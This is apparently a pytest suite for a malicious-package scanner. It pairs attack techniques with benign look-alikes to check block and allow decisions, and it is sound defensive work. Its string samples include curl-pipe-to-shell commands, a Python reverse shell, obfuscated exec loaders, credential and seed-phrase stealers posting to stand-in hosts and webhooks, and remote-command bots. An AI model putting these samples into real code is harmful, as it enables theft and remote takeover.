"""Techniques seen in real malicious packages, each with a benign look-alike.

Every sample here is inert text written for this test (hosts from documentation
ranges, commands that would only print). Each technique must block as a
package; each look-alike must stay allowed.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from pycustoms.config import Policy
from pycustoms.scan import scan_target
from pycustoms.types import Decision, Severity
from tests.builders import build_sdist, build_wheel

STAGE_TWO = "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
B64 = base64.b64encode(STAGE_TWO.encode()).decode()


def _verdict(path: Path) -> Decision:
    result = scan_target(path, Policy())
    assert result.error is None, result.error
    return result.verdict.decision


def _wheel(tmp_path: Path, files: dict[str, str], name: str = "sample") -> Decision:
    return _verdict(build_wheel(tmp_path, name, "1.0", files))


def _sdist(tmp_path: Path, setup: str, files: dict[str, str] | None = None) -> Decision:
    contents = {"setup.py": setup, "sample/__init__.py": "", **(files or {})}
    return _verdict(build_sdist(tmp_path, "sample", "1.0", contents))


# -- builtins aliased through eval of literals (obfuscator output) ------------------------------

OBFUSCATED_ALIASES = {
    "eval of escaped names": (
        '_e = eval("\\x65\\x76\\x61\\x6c")\n'
        '_c = _e("\\x63ompile")\n'
        "_b = _e(_c(\"__import__('base64')\", '', 'eval'))\n"
        '_x = _e("ex" + "ec")\n'
        f"_x(_b.b64decode({B64!r}))\n"
    ),
    "tuple of builtins": (
        f"import base64\n_r, _s, _t = exec, str, type\n_r(base64.b64decode({B64!r}))\n"
    ),
    "globals lookup": (f"import base64\nglobals()['exec'](base64.b64decode({B64!r}))\n"),
}


@pytest.mark.parametrize("way", list(OBFUSCATED_ALIASES), ids=list(OBFUSCATED_ALIASES))
def test_exec_through_an_obfuscated_alias_blocks(way: str, tmp_path: Path) -> None:
    files = {"sample/__init__.py": OBFUSCATED_ALIASES[way]}
    assert _wheel(tmp_path, files) is Decision.BLOCK


def test_a_compat_exec_alias_on_literal_code_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import sys\n"
        "_exec = exec\n"
        "_exec('def reraise(tp, value):\\n    raise value\\n')\n"
        "VERSION = eval('(1, 2)')\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW


# -- code hidden off-screen ---------------------------------------------------------------------


def test_a_statement_hidden_behind_blanks_blocks(tmp_path: Path) -> None:
    source = "VALUE = 1" + " " * 300 + f";__import__('os').system({STAGE_TWO.splitlines()[1]!r})\n"
    assert _wheel(tmp_path, {"sample/util.py": source}) is Decision.BLOCK


def test_wide_tables_in_docstrings_are_ordinary(tmp_path: Path) -> None:
    table = "=" * 40 + " " * 300 + "command\n"
    source = f'def running():\n    """Running crawls.\n\n    {table}    """\n    return []\n'
    assert _wheel(tmp_path, {"sample/util.py": source}) is Decision.ALLOW


# -- a byte-order mark does not hide a module from the parser -----------------------------------


def test_a_module_starting_with_a_bom_is_still_judged(tmp_path: Path) -> None:
    source = (
        "\ufeffimport os, requests\nrequests.post('http://203.0.113.5/c', json=dict(os.environ))\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


# -- strings computed from literals -------------------------------------------------------------


def test_a_command_behind_a_decode_helper_blocks_at_install(tmp_path: Path) -> None:
    command = base64.b64encode(b"curl -s http://198.51.100.7/i.sh | bash").decode()
    setup = (
        "import base64, os\n"
        "def b64d(code):\n"
        "    return base64.b64decode(code.encode('ascii')).decode('ascii')\n"
        f"os.system(b64d({command!r}))\n"
        "from setuptools import setup\nsetup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_a_url_built_from_char_codes_blocks(tmp_path: Path) -> None:
    codes = ", ".join(str(ord(c) ^ 11) for c in "http://203.0.113.5/c")
    source = (
        "import os, urllib.request\n"
        f"u = ''.join(chr(c ^ 11) for c in [{codes}])\n"
        "urllib.request.urlopen(u, data=repr(dict(os.environ)).encode())\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


def test_a_decoded_resource_name_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import base64\n"
        "NAME = base64.b64decode('ZGF0YS5qc29u').decode()\n"
        "def path():\n    return NAME\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.ALLOW


# -- payload routines: a suspicious peer next to a threat, however the function is reached -----


def test_a_stealer_routine_nobody_calls_yet_blocks(tmp_path: Path) -> None:
    source = (
        "import os, glob, requests\n"
        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abc'\n"
        "def grab():\n"
        "    for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "        requests.post(HOOK, files={'f': open(path, 'rb')})\n"
    )
    assert _wheel(tmp_path, {"sample/tools.py": source}) is Decision.BLOCK


def test_an_uncalled_upload_helper_to_a_named_host_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import requests\n"
        "def upload(path, token):\n"
        "    with open(path, 'rb') as handle:\n"
        "        requests.post('https://api.example.com/v1/files', data=handle,\n"
        "                      headers={'Authorization': token})\n"
    )
    assert _wheel(tmp_path, {"sample/tools.py": source}) is Decision.ALLOW


# -- data handed to a local helper that sends it ------------------------------------------------


def test_host_details_sent_through_a_local_helper_at_install_block(tmp_path: Path) -> None:
    setup = (
        "import getpass, json, socket, urllib.request\n"
        "def request(url, method='GET', data=None):\n"
        "    req = urllib.request.Request(url=url, data=data)\n"
        "    return urllib.request.urlopen(req, timeout=10).read()\n"
        "def detect():\n"
        "    info = {'user': getpass.getuser(), 'host': socket.gethostname()}\n"
        "    request(url='https://collector.example.net/hook', method='POST',\n"
        "            data=json.dumps(info).encode())\n"
        "detect()\n"
        "from setuptools import setup\nsetup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_a_version_check_through_a_local_helper_is_ordinary(tmp_path: Path) -> None:
    setup = (
        "import json, urllib.request\n"
        "def request(url, data=None):\n"
        "    return urllib.request.urlopen(urllib.request.Request(url=url, data=data)).read()\n"
        "def latest():\n"
        "    return request('https://api.example.com/latest', data=json.dumps({'v': 1}).encode())\n"
        "from setuptools import setup\nsetup(name='sample')\n"
    )
    decision = _sdist(tmp_path, setup)
    assert decision is not Decision.BLOCK


def test_a_request_object_keeps_its_destination(tmp_path: Path) -> None:
    source = (
        "import os, json, urllib.request\n"
        "URL = 'https://abcdefghijklmnop.oastify.com/x'\n"
        "req = urllib.request.Request(URL, data=json.dumps({'cwd': os.getcwd()}).encode())\n"
        "urllib.request.urlopen(req)\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


# -- code written to a file, then run ------------------------------------------------------------


def test_a_script_written_and_run_at_install_blocks(tmp_path: Path) -> None:
    script = (
        "import requests, base64\\n"
        'data = requests.get("http://203.0.113.8/img.png").content\\n'
        "exec(base64.b64decode(data))\\n"
    )
    setup = (
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        path = os.path.join(os.getenv('TEMP', '/tmp'), 'cfg.py')\n"
        "        with open(path, 'w') as handle:\n"
        f"            handle.write('{script}')\n"
        "        os.system('python ' + path)\n"
        "setup(name='sample', cmdclass={'install': Install})\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_a_generated_version_module_is_ordinary(tmp_path: Path) -> None:
    setup = (
        "import subprocess\n"
        "from setuptools import setup\n"
        "rev = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
        "with open('sample/_version.py', 'w') as handle:\n"
        "    handle.write('# generated\\n__version__ = %r\\nimport sys\\nX = (1, 2)\\n' % rev)\n"
        "setup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.ALLOW


def test_a_shipped_script_run_at_install_is_judged_as_install_code(tmp_path: Path) -> None:
    setup = (
        "import os, sys\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Run(install):\n"
        "    def run(self):\n"
        "        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), "
        "\\'helper.py\\')}\"')\n"
        "        install.run(self)\n"
        "setup(name='sample', py_modules=['helper'], cmdclass={'install': Run})\n"
    )
    helper = (
        "import os, requests\n"
        "requests.post('https://collector.example.net/h', json={'env': dict(os.environ)})\n"
    )
    assert _sdist(tmp_path, setup, {"helper.py": helper}) is Decision.BLOCK


# -- commands builds never run ----------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "os.system('calc.exe')",
        "os.system(\"echo 'You Have been pwned' > /tmp/pwned\")",
        "subprocess.getoutput('dig @1.1.1.1 install.api.example.com')",
        "subprocess.check_output('net user /add user3 S3cret! && net localgroup "
        "administrators user3 /add', shell=True)",
    ],
)
def test_install_commands_builds_never_run_block(command: str, tmp_path: Path) -> None:
    setup = (
        f"import os, subprocess\n{command}\nfrom setuptools import setup\nsetup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


def test_build_commands_at_install_are_ordinary(tmp_path: Path) -> None:
    setup = (
        "import os, subprocess, sysconfig\n"
        "subprocess.check_call(['gcc', '-O2', '-c', 'src/fast.c', '-o', 'build/fast.o'])\n"
        "rev = subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
        "arch = subprocess.check_output(['uname', '-m']).decode()\n"
        "have = os.system('which pkg-config > /dev/null')\n"
        "from setuptools import setup\nsetup(name='sample', version=rev)\n"
    )
    assert _sdist(tmp_path, setup) is Decision.ALLOW


# -- a package whose own name has a test word is still the package -----------------------------


def test_a_package_named_like_a_test_directory_is_judged_as_the_package(tmp_path: Path) -> None:
    source = (
        "import os, socket, urllib.request\n"
        "info = os.getlogin() + '@' + socket.gethostname()\n"
        "urllib.request.urlopen('https://collector.example.net/i', data=info.encode())\n"
    )
    files = {"shoots_api_test/__init__.py": source}
    assert _wheel(tmp_path, files, name="shoots-api-test") is Decision.BLOCK


def test_a_real_tests_directory_with_fake_secrets_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import os\n"
        "FAKE = {'AWS_SECRET_ACCESS_KEY': 'x' * 40}\n"
        "def test_env(monkeypatch):\n"
        "    monkeypatch.setattr(os, 'environ', FAKE)\n"
    )
    files = {"sample/__init__.py": "", "tests/test_env.py": source}
    assert _wheel(tmp_path, files) is Decision.ALLOW


# -- keys, seeds and passwords handed to a library call --------------------------------------


def test_a_seed_phrase_sent_to_a_webhook_from_a_closure_blocks(tmp_path: Path) -> None:
    source = (
        "import threading, requests\n"
        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abc'\n"
        "def balance(mnemonic_phrase):\n"
        "    def _log():\n"
        "        requests.post(HOOK, json={'m': mnemonic_phrase}, timeout=3)\n"
        "    threading.Thread(target=_log, daemon=True).start()\n"
        "    return 0\n"
    )
    assert _wheel(tmp_path, {"sample/wallet.py": source}) is Decision.BLOCK


def test_a_login_helper_posting_its_password_to_its_api_is_ordinary(tmp_path: Path) -> None:
    source = (
        "import requests\n"
        "def login(username, password):\n"
        "    return requests.post('https://api.example.com/v1/login',\n"
        "                         json={'user': username, 'password': password}).json()\n"
    )
    assert _wheel(tmp_path, {"sample/client.py": source}) is Decision.ALLOW


# -- an address hidden by encoding, a command loop through a helper ------------------------------


def test_code_fetched_from_an_encoded_address_and_run_blocks(tmp_path: Path) -> None:
    url = b"https://api.example.org/socket".hex()
    source = (
        "import base64, requests\n"
        "def indicator():\n"
        f"    url = bytes.fromhex({url!r}).decode('utf-8')\n"
        "    message = requests.get(url).json().get('message', '')\n"
        "    exec(base64.b64decode(message).decode())\n"
    )
    assert _wheel(tmp_path, {"sample/core.py": source}) is Decision.BLOCK


def test_a_command_loop_through_a_helper_defined_later_blocks(tmp_path: Path) -> None:
    source = (
        "import subprocess, time, requests\n"
        "def debug():\n"
        "    link = 'https://ba-ace-f.anondns.net/'\n"
        "    while True:\n"
        "        resp = requests.get(link).text\n"
        "        output = runcommand(resp)\n"
        "        requests.post(link + 'output', data={'o': output})\n"
        "        time.sleep(1)\n"
        "def runcommand(value):\n"
        "    return subprocess.run(value, shell=True, capture_output=True).stdout\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


def test_a_cipher_over_the_alphabet_is_peeled(tmp_path: Path) -> None:
    plain = (
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.4",13851));'
        'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/sh")'
    )
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    reverse = letters[::-1]
    hidden = "".join(reverse[letters.index(c)] if c in letters else c for c in plain)
    source = (
        "import string\n"
        "letters = string.ascii_letters\n"
        "letters_r = letters[::-1]\n"
        "try:\n"
        "    exec(''.join([letters_r[letters.index(c)] if c in letters_r else c "
        f"for c in {hidden!r}]))\n"
        "except Exception:\n"
        "    pass\n"
    )
    assert _wheel(tmp_path, {"sample/cache.py": source}) is Decision.BLOCK


# -- a download in one helper, run by another -----------------------------------------------------


def test_a_download_and_a_launch_in_two_helpers_block(tmp_path: Path) -> None:
    source = (
        "import os, requests, subprocess\n"
        "def fetch(url, dest):\n"
        "    with open(dest, 'wb') as handle:\n"
        "        handle.write(requests.get(url).content)\n"
        "def launch(path):\n"
        "    subprocess.run([path])\n"
        "def load_and_execute():\n"
        "    path = os.path.join(os.getenv('APPDATA', '/tmp'), 'svc.exe')\n"
        "    fetch('http://198.51.100.20:6963/builds/svc.exe', path)\n"
        "    launch(path)\n"
        "load_and_execute()\n"
    )
    assert _wheel(tmp_path, {"sample/__init__.py": source}) is Decision.BLOCK


def test_a_model_download_and_a_git_call_in_two_helpers_are_ordinary(tmp_path: Path) -> None:
    source = (
        "import requests, subprocess\n"
        "def fetch(url, dest):\n"
        "    with open(dest, 'wb') as handle:\n"
        "        handle.write(requests.get(url).content)\n"
        "def revision():\n"
        "    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\n"
        "def prepare(cache):\n"
        "    fetch('https://models.example.com/weights.bin', cache + '/weights.bin')\n"
        "    return revision()\n"
    )
    assert _wheel(tmp_path, {"sample/models.py": source}) is not Decision.BLOCK


# -- a command with a variable part keeps its known text -----------------------------------------


def test_a_download_command_with_a_variable_path_blocks_at_install(tmp_path: Path) -> None:
    setup = (
        "import os, tempfile\n"
        "out = os.path.join(tempfile.gettempdir(), 'x.png')\n"
        "cmd = f'curl -s -L https://thanks.example.app/x.png -o {out} && start {out}'\n"
        "os.system(cmd)\n"
        "from setuptools import setup\nsetup(name='sample')\n"
    )
    assert _sdist(tmp_path, setup) is Decision.BLOCK


# -- an executable shipped XOR-encoded under a source name --------------------------------------


def _pe_stub() -> bytes:
    """The headers of a Windows program (no code): enough for a reader to call it PE."""
    return b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 200


def test_an_executable_hidden_under_a_xor_key_in_a_py_file_blocks(tmp_path: Path) -> None:
    hidden = bytes(b ^ 0xD8 for b in _pe_stub())
    files: dict[str, str | bytes] = {
        "sample/__init__.py": "def crypt(path, key):\n    return bytes(b ^ key for b in open(path, 'rb').read())\n",
        "sample/test.py": hidden,
    }
    assert _verdict(build_wheel(tmp_path, "sample", "1.0", files)) is Decision.BLOCK


def test_a_binary_test_fixture_is_not_blocked(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "sample/__init__.py": "",
        "sample/tests/data/raw.py": b"\x00\x01\x02 fixture bytes that are not an executable",
        "sample/._setup.py": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ",
    }
    assert _verdict(build_wheel(tmp_path, "sample", "1.0", files)) is not Decision.BLOCK


# -- a second interpreter started in the background to import another module --------------------

BACKGROUND = (
    "import subprocess\n"
    "try:\n"
    "    subprocess.Popen(['python3', '-c', 'import warnings; from helperlib import dist_util'],\n"
    "                     close_fds=True)\n"
    "except Exception:\n"
    "    pass\n"
)
PROBE = (
    "import subprocess, sys\n"
    "HAS_NUMPY = subprocess.run([sys.executable, '-c', 'import numpy'], check=False).returncode == 0\n"
    "def worker():\n"
    "    return subprocess.Popen([sys.executable, '-c', 'from sample.jobs import main; main()'])\n"
)


def test_a_background_interpreter_that_only_imports_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": BACKGROUND}) is Decision.BLOCK


def test_probing_for_a_module_or_starting_a_worker_is_allowed(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": PROBE}) is not Decision.BLOCK


# -- a signing key sent to a throwaway domain ---------------------------------------------------

KEY_THIEF = (
    "import requests\n"
    "def get_balance(private_key):\n"
    "    body = [{'private_key': private_key}]\n"
    "    return requests.post('https://walletapi-example.sbs/balance', json=body).json()\n"
)
KEY_LOOKALIKES = (
    "import requests\n"
    "def upload_certificate(private_key, chain):\n"  # a TLS key to the provider's own API
    "    return requests.post('https://api.cloud-example.com/certs', json={'key': private_key})\n"
    "def login(password):\n"  # a password to the service that checks it
    "    return requests.post('https://dashboard-example.site/login', data={'pw': password})\n"
    "def sample(seed):\n"  # a random seed is not a seed phrase
    "    return requests.post('https://llm-example.xyz/v1/complete', json={'seed': seed})\n"
    "class Client:\n"  # an API's secret key, given by the caller, to that API's app host
    "    def __init__(self, secret_key):\n"
    "        self.secret_key = secret_key\n"
    "    def ask(self, query):\n"
    "        data = {'query': query, 'secret_key': self.secret_key}\n"
    "        return requests.post('https://team-app.example.space/ask', data=data).json()\n"
)


def test_a_signing_key_sent_to_a_throwaway_domain_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": KEY_THIEF}) is Decision.BLOCK


def test_keys_to_their_own_service_and_passwords_are_allowed(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": KEY_LOOKALIKES}) is Decision.ALLOW


# -- remote code in a docs build ----------------------------------------------------------------

DOCS_CONF = (
    "from urllib.request import urlopen\n"
    "_conf_url = 'https://docs-theme.example.org/upload/shared-conf.py'\n"
    "with urlopen(_conf_url) as _inf:\n"
    "    exec(compile(_inf.read(), _conf_url, 'exec'), globals())\n"
)


def test_a_docs_build_that_runs_a_fetched_config_warns_but_is_not_blocked(
    tmp_path: Path,
) -> None:
    """A Sphinx `conf.py` runs when someone builds the docs, not at install or import."""
    files = {"doc/conf.py": DOCS_CONF, "sample/__init__.py": "VALUE = 1\n"}
    assert _sdist(tmp_path, "from setuptools import setup\nsetup()\n", files) is Decision.WARN


def test_the_same_code_in_the_package_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": DOCS_CONF}) is Decision.BLOCK


# -- a chat bot that runs the commands it is sent -----------------------------------------------

BOT_RAT = (
    "import subprocess, threading, telebot\n"
    "bot = telebot.TeleBot('123456:EXAMPLE')\n"
    "@bot.message_handler(func=lambda m: True)\n"
    "def handler(m):\n"
    "    cmd = m.text\n"
    "    out = subprocess.check_output(cmd, shell=True, text=True)\n"
    "    bot.reply_to(m, out)\n"
    "threading.Thread(target=bot.infinity_polling, daemon=True).start()\n"
)
CLI_TOOL = (
    "import subprocess, click\n"
    "@click.command()\n"
    "@click.argument('cmd')\n"
    "def run(cmd):\n"
    "    subprocess.run(cmd, shell=True, check=True)\n"
)
BOT_ECHO = (
    "import telebot\n"
    "bot = telebot.TeleBot('123456:EXAMPLE')\n"
    "@bot.message_handler(commands=['upper'])\n"
    "def upper(m):\n"
    "    bot.reply_to(m, m.text.upper())\n"
)


def test_a_bot_handler_that_runs_the_message_as_a_command_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": BOT_RAT}) is Decision.BLOCK


@pytest.mark.parametrize("source", [CLI_TOOL, BOT_ECHO], ids=["click command", "echo bot"])
def test_command_line_tools_and_ordinary_bots_are_allowed(source: str, tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/cli.py": source}) is Decision.ALLOW


# -- a one-line script written as bytes to a temporary file, then started ------------------------

TEMP_DROPPER = (
    "from tempfile import NamedTemporaryFile as _f\n"
    "from os import system as _s\n"
    "t = _f(delete=False)\n"
    "t.write(b\"from urllib.request import urlopen as u;exec(u('http://198.51.100.7/r').read())\")\n"
    "t.close()\n"
    "_s(f'start pythonw {t.name}')\n"
)
TEMP_CONFIG = (
    "from tempfile import NamedTemporaryFile\n"
    "t = NamedTemporaryFile(delete=False)\n"
    "t.write(b'[tool.sample]\\nname = \"x\"; value = 3  # written for the test run\\n')\n"
    "t.close()\n"
)


def test_a_script_written_as_bytes_then_started_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/loader.py": TEMP_DROPPER}) is Decision.BLOCK


def test_writing_a_config_file_is_allowed(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/loader.py": TEMP_CONFIG}) is Decision.ALLOW


# -- set-up that drops an obfuscated browser script, and pip driven in-process ------------------

_OBFUSCATED = ";".join(f"var _0x{i:04x}a=_0x{i + 1:04x}a" for i in range(30))
EXTENSION_DROP = (
    "import os\n"
    "from setuptools import setup\n"
    "folder = os.path.join(os.getenv('APPDATA', '/tmp'), 'Extension')\n"
    "with open(os.path.join(folder, 'background.js'), 'w') as f:\n"
    f"    f.write('''{_OBFUSCATED}''')\n"
    "setup(name='sample', version='1.0')\n"
)
PIP_IN_PROCESS = (
    "from setuptools import setup\n"
    "from pip._internal import main\n"
    "main(['install', 'helperlib'])\n"
    "setup(name='sample', version='1.0')\n"
)


def test_set_up_that_writes_obfuscated_javascript_blocks(tmp_path: Path) -> None:
    assert _sdist(tmp_path, EXTENSION_DROP) is Decision.BLOCK


def test_set_up_that_drives_pip_in_process_is_reported(tmp_path: Path) -> None:
    result = scan_target(build_sdist(tmp_path, "sample", "1.0", {"setup.py": PIP_IN_PROCESS}),
                         Policy())  # fmt: skip
    rules = {f.rule for f in result.verdict.findings}
    assert "code/install-time-command" in rules


# -- a script written one line per write() ------------------------------------------------------

LINE_BY_LINE = (
    "import os\n"
    "def check():\n"
    "    with open('/tmp/job.py', 'w') as f:\n"
    "        f.write('import subprocess\\n')\n"
    "        f.write('from urllib import request\\n')\n"
    "        f.write(\"u = 'http://198.51.100.7/p.sh'\\n\")\n"
    "        f.write(\"request.urlretrieve(u, '/tmp/p.sh')\\n\")\n"
    "        f.write(\"subprocess.call('bash /tmp/p.sh', shell=True)\\n\")\n"
    "    os.system('python3 /tmp/job.py &')\n"
    "check()\n"
)
LINE_BY_LINE_REPORT = (
    "def report(rows):\n"
    "    with open('report.csv', 'w') as f:\n"
    "        f.write('name,count\\n')\n"
    "        for name, count in rows:\n"
    "            f.write(f'{name},{count}\\n')\n"
    "        f.write('total (all rows),' + str(len(rows)) + '\\n')\n"
)


def test_a_script_written_line_by_line_is_judged_whole(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/color.py": LINE_BY_LINE}) is Decision.BLOCK


def test_a_report_written_line_by_line_is_allowed(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/report.py": LINE_BY_LINE_REPORT}) is Decision.ALLOW


# -- an SDK's constructor that posts the keys it was given --------------------------------------

TROJANED_SDK = (
    "import base64, requests\n"
    "class Config:\n"
    "    def __init__(self, access_key_id, access_key_secret):\n"
    "        self._secret_id = access_key_id\n"
    "        self._secret_key = access_key_secret\n"
    "        try:\n"
    "            data = {'ak': self._secret_id, 'sk': self._secret_key}\n"
    "            requests.post(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNy9r').decode(), json=data)\n"
    "        except Exception:\n"
    "            pass\n"
)
NOTIFIER = (
    "import requests\n"
    "class Notifier:\n"
    "    def __init__(self, token, chat_id):\n"
    "        self.token, self.chat_id = token, chat_id\n"
    "    def send(self, text):\n"
    "        url = f'https://api.telegram.org/bot{self.token}/sendMessage'\n"
    "        requests.post(url, data={'chat_id': self.chat_id, 'text': text})\n"
)


def test_an_sdk_that_posts_its_keys_to_a_hidden_address_blocks(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/config.py": TROJANED_SDK}) is Decision.BLOCK


def test_a_notifier_that_authenticates_with_its_bot_token_is_not_blocked(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/notify.py": NOTIFIER}) is not Decision.BLOCK


# -- a module (not the package's __init__) that posts to a raw IP when imported ---------------------

RAW_IP_AT_IMPORT = (
    "import requests\n"
    "def initialize(data):\n"
    "    requests.post('http://198.51.100.7:5000/k', json={'d': data})\n"
    "initialize(open('wallet.txt').read())\n"
)
LOCAL_SERVER = (
    "import requests\n"
    "def ping():\n"
    "    return requests.get('http://127.0.0.1:8000/health').ok\n"
    "READY = ping()\n"
)


def test_a_module_that_posts_to_a_raw_ip_on_import_blocks(tmp_path: Path) -> None:
    """Before: `markets.py` (not the package's `__init__`) was never walked."""
    assert _wheel(tmp_path, {"sample/__init__.py": "", "sample/markets.py": RAW_IP_AT_IMPORT}) is (
        Decision.BLOCK
    )


def test_a_module_that_talks_to_a_local_server_is_allowed(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": "", "sample/local.py": LOCAL_SERVER}) is (
        Decision.ALLOW
    )


# -- a shipped data file executed at install ----------------------------------------------------

README_THEN_VERSION = (
    "import os\n"
    "from setuptools import setup\n"
    "long_description = open('README.md').read()\n"
    "root = os.path.dirname(__file__)\n"
    "version = {}\n"
    "with open(os.path.join(root, 'sample/version.py')) as fp:\n"
    "    exec(fp.read(), version)\n"
    "setup(name='sample', version=version['__version__'], long_description=long_description)\n"
)
DATA_THEN_EXEC = (
    "from setuptools import setup\n"
    "with open('notes.txt') as handle:\n"
    "    body = handle.read()\n"
    "    exec(body)\n"
    "setup(name='sample', version='1.0')\n"
)


def test_a_version_file_executed_after_the_readme_was_read_is_ordinary(tmp_path: Path) -> None:
    files = {
        "README.md": "A sample package.\n\nInstall it with pip.\n",
        "sample/version.py": "__version__ = '1.0'\n",
    }
    assert _sdist(tmp_path, README_THEN_VERSION, files) is Decision.ALLOW


def test_a_shipped_text_file_executed_at_install_blocks(tmp_path: Path) -> None:
    files = {"notes.txt": "import os\nprint(os.getcwd())\n"}
    assert _sdist(tmp_path, DATA_THEN_EXEC, files) is Decision.BLOCK


# -- a library routine that runs what a server answers (a trojaned method) --------------------

REMOTE_COMMAND_METHOD = """\
import base64
import os
import urllib.request


class Messages:
    def send(self, text):
        answer = urllib.request.urlopen("https://updates.example.net/cmd").read()
        os.system(base64.b64decode(answer).decode())
        return text
"""
# The look-alike runs a command of its own and only reports the server's answer.
LOCAL_COMMAND_METHOD = """\
import os
import urllib.request


class Messages:
    def send(self, text):
        status = urllib.request.urlopen("https://updates.example.net/status").read()
        os.system("echo sent")
        return status
"""


def test_a_method_that_runs_a_command_from_the_network_blocks(tmp_path: Path) -> None:
    files = {"sample/__init__.py": "", "sample/messages.py": REMOTE_COMMAND_METHOD}
    assert _wheel(tmp_path, files) is Decision.BLOCK


def test_a_method_that_runs_its_own_command_is_allowed(tmp_path: Path) -> None:
    files = {"sample/__init__.py": "", "sample/messages.py": LOCAL_COMMAND_METHOD}
    assert _wheel(tmp_path, files) is Decision.ALLOW


# -- a download saved to a file that the same command line starts -----------------------------

SAVED_AND_STARTED = (
    "import os\n"
    "os.system('curl -s https://files.example.net/a.py -o %TEMP%/a.pyw && py %TEMP%/a.pyw')\n"
)
# The look-alike saves a download and unpacks it: nothing downloaded is started.
SAVED_AND_UNPACKED = (
    "import os\nos.system('curl -s https://files.example.net/d.tgz -o d.tgz && tar xzf d.tgz')\n"
)


def test_a_download_started_by_the_same_command_line_blocks_on_import(tmp_path: Path) -> None:
    assert _wheel(tmp_path, {"sample/__init__.py": SAVED_AND_STARTED}) is Decision.BLOCK


def test_a_download_that_is_only_unpacked_is_not_a_stage_two(tmp_path: Path) -> None:
    result = scan_target(build_wheel(tmp_path, "sample", "1.0",
                                     {"sample/__init__.py": SAVED_AND_UNPACKED}), Policy())  # fmt: skip
    assert result.verdict.decision is not Decision.BLOCK
    assert all(f.severity < Severity.CRITICAL for f in result.verdict.findings)


# -- a shipped webhook or bot credential that the module posts to ------------------------------

# The shape of a bot token (digits, `:AA`, 33 characters), made up here, not a real one.
_BOT = "7315904268:AA" + "Qz3kT9vLm2Rw8Yp_Hn5Jc-Fd4Bx7Gs1Ue"
WEBHOOK_SENDER = f"""\
import requests


class Notifier:
    def __init__(self):
        self.token = "{_BOT}"
        self.chat = "123456789"

    def send(self, message):
        url = f"https://api.telegram.org/bot{{self.token}}/sendMessage"
        requests.post(url, params={{"chat_id": self.chat, "text": message}})
"""
# The look-alike is a bot client that takes the caller's token.
WEBHOOK_CLIENT = """\
import requests


class Notifier:
    def __init__(self, token, chat):
        self.token = token
        self.chat = chat

    def send(self, message):
        url = f"https://api.telegram.org/bot{self.token}/sendMessage"
        requests.post(url, params={"chat_id": self.chat, "text": message})
"""


def test_a_module_posting_to_its_own_shipped_bot_credential_blocks(tmp_path: Path) -> None:
    files = {"sample/__init__.py": "", "sample/notify.py": WEBHOOK_SENDER}
    assert _wheel(tmp_path, files) is Decision.BLOCK


def test_a_bot_client_that_takes_the_callers_token_is_allowed(tmp_path: Path) -> None:
    files = {"sample/__init__.py": "", "sample/notify.py": WEBHOOK_CLIENT}
    assert _wheel(tmp_path, files) is Decision.ALLOW


# -- install-time request to an IP logger, request catcher or raw IP ---------------------------

_SETUP = "from setuptools import setup\nsetup(name='sample', version='1.0')\n"
INSTALL_BEACON = "import urllib.request\nurllib.request.urlopen('https://iplogger.org/aBc12')\n"
# The look-alike fetches a version file from an ordinary host at install (warns, as before).
INSTALL_FETCH = (
    "import urllib.request\nurllib.request.urlopen('https://downloads.example.org/VERSION')\n"
)


def test_an_install_time_request_to_an_ip_logger_blocks(tmp_path: Path) -> None:
